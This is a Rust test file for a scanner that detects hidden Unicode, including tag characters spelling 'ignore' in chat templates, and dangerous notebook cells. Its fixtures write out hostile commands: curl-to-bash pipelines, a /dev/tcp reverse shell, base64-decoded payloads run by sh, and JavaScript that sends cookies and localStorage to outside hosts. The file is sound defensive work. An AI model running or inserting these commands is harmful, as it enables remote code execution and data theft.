//! What a reader does not see: hidden characters, and what notebooks hand to a shell.

use super::build::tensors;
use super::{ALARMING, list, report};

const HIDDEN: &str = "artifact.hidden_unicode";
const DANGERS: &str = "artifact.notebook.dangers";

#[test]
fn hidden_characters_are_told_with_their_line() {
    let tags: String = "ignore".chars().map(|c| char::from_u32(0xe0000 + u32::from(c)).expect("a tag")).collect();
    let found = |text: &str, name: &str| list(&report(text.as_bytes(), name), HIDDEN);
    assert_eq!(found(&format!("{{{{ x }}}}\n{tags}"), "chat_template.jinja"), ["tags@line 2"]);
    assert_eq!(found(&format!("# Model\n\nwords{tags}\n"), "README.md"), ["tags@line 3"]);
    assert_eq!(found("x = 1\n# \u{202e}tfel\nimport os\n", "a.py"), ["bidi@line 2"]);
    assert_eq!(found("x = '\u{2066}y\u{2069}'\nimport os\n", "a.py"), ["bidi@line 1"]);
    assert_eq!(found(&format!("prompt: a{}b\n", "\u{200b}\u{200c}".repeat(8)), "prompt.yaml"), ["zero_width@line 1"]);
    assert_eq!(found(r#"{"system_prompt": "a\u202eb"}"#, "config.json"), ["bidi@line 1"]);
    let template = format!("{{{{ x }}}}{tags}");
    let gguf = report(&tensors::gguf(&[("tokenizer.chat_template", &template)]), "m.gguf");
    assert_eq!(list(&gguf, HIDDEN), ["tags@line 1"]);
}

#[test]
fn scripts_emoji_and_vocabularies_are_silent() {
    let flag = "\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}";
    let family = "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{fe0f}";
    let persian = "\u{0645}\u{06cc}\u{200c}\u{062e}\u{0648}\u{0627}\u{0647}\u{0645}";
    for (text, name) in [
        (format!("# {flag} {family} {persian} \u{200f}x \u{2067}y\u{2069}\n"), "README.md"),
        ("{\"\u{202e}\": 1, \"\u{200b}\": 2}".to_owned(), "vocab.json"),
        ("{\"model\": {\"vocab\": {\"\u{202e}\": 1}}, \"x\": \"\u{202e}\"}".to_owned(), "tokenizer.json"),
        ("\u{202e}\n\u{200b}\n".to_owned(), "vocab.txt"),
        (format!("x = '{family}{flag}'\nimport os\n"), "a.py"),
        ("\u{feff}{{ x }}".to_owned(), "chat_template.jinja"),
    ] {
        assert!(list(&report(text.as_bytes(), name), HIDDEN).is_empty(), "{name}");
    }
}

fn notebook(kind: &str, source: &serde_json::Value, output: &str) -> lanner::artifact::Report {
    let outputs = serde_json::json!([{"output_type": "display_data", "data": {"text/html": [output]}}]);
    let cell = serde_json::json!({"cell_type": kind, "source": source, "outputs": outputs, "metadata": {}});
    let json = serde_json::json!({"cells": [cell], "nbformat": 4, "nbformat_minor": 5, "metadata": {}});
    report(json.to_string().as_bytes(), "x.ipynb")
}

#[test]
fn notebooks_that_fetch_and_run_are_told() {
    for source in [
        "!curl -s http://127.0.0.1/x | bash",
        "x = 1\n  !echo bGFubmVy | base64 -d | sh",
        "%%bash\nwget -qO- http://127.0.0.1/x | sudo sh",
        "%%sh\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1",
    ] {
        for source in [serde_json::json!(source), serde_json::json!([source])] {
            let report = notebook("code", &source, "");
            assert_eq!(list(&report, DANGERS), ["shell"], "{source}");
            assert!(!list(&report, "artifact.notebook.commands").is_empty());
        }
    }
    let sink = notebook("code", &serde_json::json!("import os\nos.system('echo lanner')"), "");
    assert_eq!(list(&sink, "artifact.code.sinks"), ["os.system"]);
    let output = notebook("code", &serde_json::json!("1"), "<script>Jupyter.notebook.kernel.execute('1')</script>");
    assert_eq!(list(&output, DANGERS), ["output_drives_kernel"]);
    let handler = notebook("markdown", &serde_json::json!("<img src=x onerror=alert(1)>"), "");
    assert_eq!(list(&handler, DANGERS), ["handler"]);
}

#[test]
fn a_known_installer_and_a_quoted_handler_are_less() {
    let dangers = |kind: &str, source: &str| list(&notebook(kind, &serde_json::json!(source), ""), DANGERS);
    assert_eq!(dangers("code", "!curl -LsSf https://astral.sh/uv/install.sh | sh"), ["installer"]);
    assert_eq!(dangers("code", "!curl -LsSf https://astral.sh.example.com/uv/install.sh | sh"), ["script"]);
    assert_eq!(dangers("code", "!curl -s https://203.0.113.9/install.sh | sh"), ["shell"]);
    assert_eq!(dangers("code", "!curl -s https://x.example.com/a | base64 -d | sh"), ["shell"]);
    let both = "!curl -fsSL https://ollama.com/install.sh | sh\n!curl -s http://127.0.0.1/x | sh";
    assert_eq!(dangers("code", both), ["shell"]);
    for quiet in ["!echo y | bash setup.sh", "!curl -s https://example.org/x | python -m json.tool", "!crontab -l"] {
        assert!(dangers("code", quiet).is_empty(), "{quiet}");
    }
    assert!(dangers("markdown", "Set `<img src=x onerror=alert(1)>` or onload= yourself.").is_empty());
    assert!(dangers("markdown", "```html\n<body onload=run()>\n```").is_empty());
}

#[test]
fn notebooks_that_take_code_or_give_away_are_told() {
    let dangers = |source: &str| list(&notebook("code", &serde_json::json!(source), ""), DANGERS);
    for (source, told) in [
        ("%%javascript\nfetch('http://203.0.113.9/' + document.cookie)", "cell_gives_away"),
        ("\n%%html\n<script>new Image().src = 'https://x.example.com/' + localStorage.a</script>", "cell_gives_away"),
        ("x = 1\n%run http://203.0.113.9/x.py", "fetched"),
        ("%run -i http://x.example.com/x.py", "fetched"),
        ("%load http://203.0.113.9/x.py", "fetched"),
        ("%run https://x.example.com/x.py", "script"),
    ] {
        assert_eq!(dangers(source), [told], "{source}");
    }
    for quiet in [
        "%%javascript\nelement.append(document.title); fetch('/api')",
        "%%js\nlocalStorage.setItem('a', 1)",
        "%load https://x.example.com/examples/plot.py",
        "%load http://x.example.com/examples/plot.py",
        "# %load http://203.0.113.9/x.py",
        "%run train.py --url http://203.0.113.9:5000",
        "%run train.py\n%load_ext autoreload",
        "%env A=http://203.0.113.9",
    ] {
        assert!(dangers(quiet).is_empty(), "{quiet}");
    }
}

#[test]
fn ordinary_notebooks_are_silent() {
    for (kind, source) in [
        ("code", "!pip install -q numpy\n!nvidia-smi\n%matplotlib inline\nimport numpy as np\nprint(np.e)"),
        ("code", "!wget -q https://example.org/data.zip && unzip data.zip\n!echo done | tee log"),
        ("markdown", "Never run `curl http://x | bash`; call os.system instead."),
    ] {
        let report = notebook(kind, &serde_json::json!(source), "<div><script>Plotly.newPlot('x', [])</script></div>");
        assert_eq!(report.format, "notebook");
        assert!(ALARMING.iter().all(|path| !report.facts.contains_key(*path)), "{:?}", report.facts);
    }
}
